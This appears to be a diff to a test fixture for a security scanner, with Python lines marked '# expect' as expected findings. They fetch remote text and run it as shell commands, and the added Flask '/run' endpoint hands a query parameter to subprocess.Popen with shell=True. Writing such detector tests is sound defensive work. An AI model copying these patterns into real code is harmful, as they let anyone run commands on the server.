@@ -7,3 +7,12 @@ task = requests.get("https://example.com/task").text
 os.system(task)  # expect
 reply = requests.get("https://example.com/next").json()
 output = subprocess.check_output(reply["command"], shell=True)  # expect
+
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.route("/run")
+def run_it():
+    return subprocess.Popen(request.args.get("line"), shell=True)  # expect
